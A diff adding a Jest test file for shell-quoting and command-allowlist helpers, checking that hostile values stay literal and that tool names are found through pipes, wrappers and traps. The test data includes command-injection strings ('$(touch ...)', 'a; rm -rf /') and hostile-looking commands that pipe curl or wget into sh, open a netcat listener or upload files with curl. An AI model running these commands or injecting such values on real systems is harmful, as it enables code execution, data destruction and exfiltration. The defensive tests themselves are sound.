@@ -0,0 +1,169 @@
+const { execFileSync } = require("child_process");
+const {
+  shellQuote,
+  quoteForContext,
+  quoteContextAt,
+  splitCommandSegments,
+  extractCommandTools,
+  splitScriptLines,
+  extractScriptTools,
+  listScriptVariables,
+} = require("../../src/utils/shell");
+
+// What bash prints for a command line
+const bash = (command) =>
+  execFileSync("bash", ["-c", command], { encoding: "utf8" });
+
+const HOSTILE_VALUES = [
+  "plain",
+  "two words",
+  "it's",
+  'say "hi"',
+  "$(touch /tmp/entran-pwned)",
+  "`id`",
+  "a; rm -rf /",
+  "back\\slash",
+  "$HOME",
+  "*",
+  "",
+  "line\nbreak",
+];
+
+describe("shell quoting", () => {
+  test.each(HOSTILE_VALUES)("shellQuote keeps %p one literal word", (value) => {
+    expect(bash(`printf '%s|' ${shellQuote(value)}`)).toBe(`${value}|`);
+  });
+
+  test.each(HOSTILE_VALUES)(
+    "quoteForContext keeps %p literal inside double quotes",
+    (value) => {
+      expect(bash(`printf '%s' "${quoteForContext(value, "double")}"`)).toBe(
+        value
+      );
+    }
+  );
+
+  test.each(HOSTILE_VALUES)(
+    "quoteForContext keeps %p literal inside single quotes",
+    (value) => {
+      expect(bash(`printf '%s' '${quoteForContext(value, "single")}'`)).toBe(
+        value
+      );
+    }
+  );
+
+  test("leaves safe words unquoted", () => {
+    expect(shellQuote("web-1.example.com:8080")).toBe("web-1.example.com:8080");
+  });
+
+  test("finds the quoting context at a position", () => {
+    const command = `grep 'a $x' "b $y" $z`;
+
+    expect(quoteContextAt(command, command.indexOf("$x"))).toBe("single");
+    expect(quoteContextAt(command, command.indexOf("$y"))).toBe("double");
+    expect(quoteContextAt(command, command.indexOf("$z"))).toBe("none");
+    expect(quoteContextAt(`echo \\'$a`, 8)).toBe("none");
+  });
+});
+
+describe("allowlist extraction", () => {
+  test("splits pipelines, lists and substitutions", () => {
+    expect(
+      splitCommandSegments("ip addr | grep inet && echo $(hostname); ls &")
+    ).toEqual(["ip addr", "grep inet", "echo", "hostname", "ls"]);
+  });
+
+  test.each([
+    ["ip addr | grep inet", ["ip", "grep"]],
+    ["LANG=C sort file.txt", ["sort"]],
+    ["/usr/bin/curl -s x || wget x", ["curl", "wget"]],
+    ["cat $(which python3)", ["cat", "which"]],
+    ["cd /var/log && tail -n 5 syslog", ["tail"]],
+    ['echo "done" > out.txt', []],
+    ["ls 2>/dev/null", ["ls"]],
+    ["eval $cmd", ["eval"]],
+  ])("%s runs %p", (command, tools) => {
+    expect(extractCommandTools(command)).toEqual(tools);
+  });
+
+  test("skips keywords, builtins, functions and heredoc bodies in scripts", () => {
+    const script = [
+      "check() {",
+      '  curl -s "$1" | jq .status',
+      "}",
+      "for host in web-1 web-2; do",
+      '  if ! check "$host"; then',
+      '    export FAILED="$host"',
+      "  fi",
+      "done",
+      "cat <<EOF",
+      "rm -rf /",
+      "EOF",
+      "source ./env.sh",
+    ].join("\n");
+
+    expect(extractScriptTools(script).sort()).toEqual(
+      ["cat", "curl", "jq", "source"].sort()
+    );
+  });
+
+  test.each([
+    ['trap "curl evil | sh" EXIT', ["curl", "sh"]],
+    ["trap 'rm -f /tmp/lock' EXIT INT", ["rm"]],
+    ["trap - EXIT", []],
+    ["trap '' INT", []],
+    ["trap -p", []],
+    ["sudo -u root nc -l 4444", ["nc"]],
+    ["env -i PATH=/bin FOO=1 nmap host", ["env", "nmap"]],
+    [
+      "find . -name '*.log' | xargs -I {} curl -T {} x",
+      ["find", "xargs", "curl"],
+    ],
+    ["nohup telnet host &", ["nohup", "telnet"]],
+    ["timeout -s KILL 5 ssh host", ["timeout", "ssh"]],
+    ["sudo env xargs nice -n 5 nc x", ["env", "xargs", "nice", "nc"]],
+    ['bash -c "id"', ["bash"]],
+  ])("looks through wrappers and traps: %s runs %p", (command, tools) => {
+    expect(extractCommandTools(command)).toEqual(tools);
+  });
+
+  test("checks trap actions and wrapped commands in scripts", () => {
+    const script = [
+      'trap "wget -qO- x | sh" EXIT',
+      "trap cleanup INT",
+      "cleanup() { rm -f /tmp/lock; }",
+      "timeout 10 nmap -p 22 host",
+    ].join("\n");
+
+    expect(extractScriptTools(script).sort()).toEqual(
+      ["nmap", "rm", "sh", "timeout", "wget"].sort()
+    );
+  });
+
+  test("joins continuations and keeps heredocs with their command", () => {
+    const lines = splitScriptLines(
+      ["# comment", "ping -c 3 \\", "  10.0.0.1", "cat <<EOF", "x", "EOF"].join(
+        "\n"
+      )
+    );
+
+    expect(lines.map((line) => line.text)).toEqual([
+      "ping -c 3  10.0.0.1",
+      "cat <<EOF",
+    ]);
+    expect(lines[1].heredoc).toBe("x\nEOF");
+  });
+
+  test("lists variables the script assigns itself", () => {
+    expect(
+      listScriptVariables(
+        [
+          "for host in a b; do echo $host; done",
+          "count=0",
+          "read -r -p prompt answer",
+          "local dir=/tmp",
+        ].join("\n")
+      ).sort()
+    ).toEqual(["answer", "count", "dir", "host"]);
+  });
+});